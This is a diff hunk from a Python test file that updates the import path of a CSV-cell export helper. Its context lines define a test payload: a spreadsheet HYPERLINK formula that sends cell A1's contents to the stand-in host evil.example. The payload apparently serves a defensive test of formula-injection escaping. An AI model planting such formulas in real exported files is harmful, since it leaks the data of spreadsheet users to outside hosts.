@@ -9,7 +9,7 @@ import io
 
 import pytest
 
-from releases.exports import csv_cell
+from releases.api.exports import csv_cell
 from tests.factories import AreaFactory, FeatureFactory, LinkFactory, ReleaseFactory
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
